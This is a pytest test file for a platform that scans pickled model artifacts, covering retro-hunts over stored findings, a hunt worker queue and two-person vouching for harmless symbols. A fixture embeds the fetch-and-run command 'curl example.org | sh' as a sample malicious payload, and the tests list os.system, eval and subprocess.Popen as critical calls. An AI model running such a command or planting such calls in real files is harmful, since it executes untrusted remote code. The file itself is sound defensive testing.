"""Retro-hunts and vouches: applied to stored facts, never to bytes."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
import registry as r
from django.core.exceptions import PermissionDenied
from django.db import IntegrityError, connection, transaction
from django.utils import timezone

from weighbridge.platform.accounts.roles import Role
from weighbridge.platform.audit.chain import verify
from weighbridge.platform.audit.errors import Conflict, Refused
from weighbridge.platform.cases import deciding, vouching
from weighbridge.platform.cases.models import Case, Ruling, Vouch
from weighbridge.platform.catalog.models import ModelVersion
from weighbridge.platform.scans import hunt_queue, hunts, reader
from weighbridge.platform.scans.models import ArtifactReport, Hunt

pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture(autouse=True)
def no_bytes(monkeypatch: pytest.MonkeyPatch) -> Any:
    """From the first question on nothing may be opened."""
    ask = hunts.run

    def asking(row: Any) -> Any:
        monkeypatch.setattr(reader, "opened", lambda *_: pytest.fail("a file was opened"))
        return ask(row)

    monkeypatch.setattr(hunts, "run", asking)


@pytest.fixture
def everything() -> None:
    r.scanned(r.infected("curl example.org | sh"), "a.pkl")
    r.scanned(r.unvouched("some text"), "b.pkl")
    r.scanned(r.harmless(), "c.pkl")


@pytest.mark.parametrize(
    ("kind", "text", "hits"),
    [
        ("import", "os.system", 1),
        ("import", "os.*", 1),
        ("import", "textwrap.dedent", 1),
        ("callee", "textwrap.dedent", 1),
        ("import", "os.popen", 0),
        ("operator", "os.system", 0),
        ("string", "example.org", 1),
        ("string", "some text", 1),
        ("string", 'quote " and \\', 0),
        ("string", "nowhere", 0),
    ],
)
def test_a_question(everything: None, kind: str, text: str, hits: int) -> None:
    before = Case.objects.count()
    hunt = r.hunted(kind, text)
    assert (hunt.state, hunt.examined, hunt.hits) == ("done", 3, hits)
    assert Case.objects.count() == before + hits
    assert hunt.cases_opened == hits


def test_the_hits_of_one_question_are_one_case(everything: None) -> None:
    r.scanned(r.infected("other"), "d.pkl")
    r.hunted("import", "os.system")
    case = Case.objects.get(origin="hunt")
    assert (case.occurrences.count(), case.verdict, case.state) == (2, "suspicious", "queued")
    r.hunted("import", "os.system")
    assert Case.objects.get(origin="hunt").occurrences.count() == 2
    assert verify().ok


def test_a_question_without_cases(everything: None) -> None:
    assert r.hunted("import", "os.system", open_cases=False).hits == 1
    assert not Case.objects.filter(origin="hunt").exists()


@pytest.mark.parametrize(("kind", "text"), [("import", "os"), ("string", "*"), ("magic", "hello")])
def test_what_is_no_question(kind: str, text: str) -> None:
    with pytest.raises(Refused):
        hunts.hunt(r.person("ada"), kind, text)


def test_a_hunt_waits_for_a_worker_and_tells_how_far_it_is(everything: None) -> None:
    row = hunts.hunt(r.person("ada"), "string", "example.org")
    assert (row.state, row.examined) == ("queued", 0)
    claimed = hunt_queue.claim("worker-1")
    assert claimed is not None and claimed.state == "running"
    assert hunt_queue.claim("worker-2") is None
    done = hunts.run(claimed)
    assert (done.state, done.total, done.examined, done.hits) == ("done", 3, 3, 1)
    assert hunt_queue.claim("worker-1") is None


def test_the_hunt_of_a_lost_worker_goes_on_elsewhere(everything: None) -> None:
    hunts.hunt(r.person("ada"), "import", "os.system")
    lost = hunt_queue.claim("worker-1")
    assert lost is not None
    Hunt.objects.update(lease_until=timezone.now() - timedelta(seconds=1))
    row = hunt_queue.claim("worker-2")
    assert row is not None and row.attempts == 2
    assert hunts.run(lost).state == "running"
    done = hunts.run(row)
    assert (done.state, done.hits) == ("done", 1)


def test_a_hunt_that_takes_every_worker_down_ends(everything: None) -> None:
    hunts.hunt(r.person("ada"), "import", "os.system")
    for _ in range(hunt_queue.ATTEMPTS):
        assert hunt_queue.claim("worker") is not None
        Hunt.objects.update(lease_until=timezone.now() - timedelta(seconds=1))
    row = hunt_queue.claim("worker")
    assert row is not None and (row.state, row.worker) == ("failed", "")
    assert hunt_queue.claim("worker") is None


def test_who_may_hunt() -> None:
    with pytest.raises(PermissionDenied):
        hunts.hunt(r.person("eve", Role.SUBMITTER), "import", "os.system")


def test_changed_rules_open_cases_by_themselves(
    everything: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    from dataclasses import replace

    from weighbridge.findings.model import Kind
    from weighbridge.platform.scans import judging, whole

    before = judging.judge

    def stricter(facts: Any, path: str) -> Any:
        found = before(facts, path)
        return [
            replace(one, kind=Kind.MALICIOUS, behaviour="new")
            if one.rule == "unvouched-call"
            else one
            for one in found
        ]

    monkeypatch.setattr(judging, "judge", stricter)
    for module in (judging, hunts, whole):
        monkeypatch.setattr(module, "RULES_VERSION", "2099.01")
    hunt = r.hunted("rules")
    assert (hunt.total, hunt.examined, hunt.hits, hunt.cases_opened) == (6, 6, 1, 1)
    assert Case.objects.get(behaviour="new").verdict == "malicious"
    assert ArtifactReport.objects.filter(current=True, rules="2099.01").count() == 3
    assert r.hunted("rules").examined == 0


# -- vouching ------------------------------------------------------------------------------------


def vouched(scope: str = "any") -> Vouch:
    row = vouching.propose(r.person("ada"), "textwrap", "dedent", scope, "text only")
    return vouching.approve(r.person("bob"), row.pk)[0]


def test_a_vouch_is_applied_to_what_was_scanned_at_once(everything: None) -> None:
    case = Case.objects.get(verdict="suspicious")
    row = vouched()
    assert row.applied_at is not None
    case.refresh_from_db()
    assert (case.state, case.decision) == ("decided", "false-positive")
    assert Case.objects.get(verdict="malicious").state == "queued"
    report = ArtifactReport.objects.get(current=True, artifact__files__path="b.pkl")
    assert (report.verdict, report.vouched) == ("clean", Ruling.objects.get().vouched)
    assert ModelVersion.objects.filter(status="no-findings").count() == 2


def test_a_vouch_for_rebuilding_says_nothing_about_calls(everything: None) -> None:
    vouched("rebuild")
    assert Case.objects.get(verdict="suspicious").state == "queued"


def test_what_is_scanned_later_is_judged_with_it() -> None:
    vouched()
    scan = r.scanned(r.unvouched())
    assert scan.verdict == "clean"
    assert not Case.objects.exists()


def test_a_vouch_never_covers_what_stands_beside_it() -> None:
    vouched()
    both = r.unvouched()[:-1] + b"0" + r.infected()[2:]
    assert r.scanned(both).verdict == "malicious"


def test_a_revoked_vouch_brings_the_findings_back(everything: None) -> None:
    row = vouched()
    case = Case.objects.get(verdict="suspicious")
    deciding.reopen(r.person("cleo"), case.pk, "it was wrong")
    vouching.revoke(r.person("ada"), row.pk, "it was wrong")
    assert ModelVersion.objects.filter(status="suspected").count() == 2
    assert Ruling.objects.get().vouched == ""


def test_an_interrupted_vouch_is_applied_later(
    everything: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    row = vouching.propose(r.person("ada"), "textwrap", "dedent", "any", "text only")
    with monkeypatch.context() as patched, pytest.raises(KeyboardInterrupt):
        patched.setattr(vouching, "rejudge", lambda *_: (_ for _ in ()).throw(KeyboardInterrupt()))
        vouching.approve(r.person("bob"), row.pk)
    assert Case.objects.get(verdict="suspicious").state == "queued"
    assert vouching.apply_pending() == 1
    assert Case.objects.get(verdict="suspicious").state == "decided"


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("os", "system"),
        ("builtins", "eval"),
        ("subprocess", "Popen"),
        ("torch", "serialization.os.system"),
    ],
)
def test_nobody_vouches_for_what_is_critical(module: str, name: str) -> None:
    with pytest.raises(Refused, match="critical"):
        vouching.propose(r.person("ada"), module, name, "any", "trust me")


@pytest.mark.parametrize(
    ("module", "name"), [("sklearn.*", "X"), ("os", ""), ("", "x"), ("a b", "c")]
)
def test_a_vouch_is_for_one_symbol(module: str, name: str) -> None:
    with pytest.raises(Refused):
        vouching.propose(r.person("ada"), module, name, "any", "all of it")


def test_two_people_vouch() -> None:
    row = vouching.propose(r.person("ada"), "textwrap", "dedent", "any", "text only")
    with pytest.raises(Refused):
        vouching.approve(r.person("ada"), row.pk)
    with pytest.raises(Conflict):
        vouching.propose(r.person("bob"), "textwrap", "dedent", "any", "me too")
    for statement in (
        f"UPDATE cases_vouch SET approver_id = {r.person('ada').pk}",
        "UPDATE cases_vouch SET state = 'active'",
    ):
        with pytest.raises(IntegrityError), transaction.atomic(), connection.cursor() as cursor:
            cursor.execute(statement)
    assert vouching.refuse(r.person("bob"), row.pk, "no").state == "refused"
    with pytest.raises(Conflict):
        vouching.approve(r.person("bob"), row.pk)
